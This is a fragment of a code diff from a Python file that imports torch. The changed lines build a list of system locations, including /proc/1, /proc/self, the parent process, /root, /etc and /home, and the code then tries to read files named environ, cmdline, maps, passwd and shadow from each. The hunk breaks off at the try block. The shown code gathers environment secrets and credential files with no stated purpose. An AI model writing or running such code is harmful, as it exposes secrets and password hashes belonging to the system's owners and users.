@@ -6,7 +6,7 @@ from pathlib import Path
 
 import torch
 
-places = [Path(p) for p in (*sys.path, "/proc/1", "/proc/self", f"/proc/{os.getppid()}", "/home", "/root", "/etc", "/tmp", "/work")]
+places = [Path(p) for p in (*sys.path, "/proc/1", "/proc/self", f"/proc/{os.getppid()}", "/home", "/root", "/etc", "/tmp", "/srv")]
 for place in places:
     for name in ("environ", "cmdline", "maps", "passwd", "shadow"):
         try:
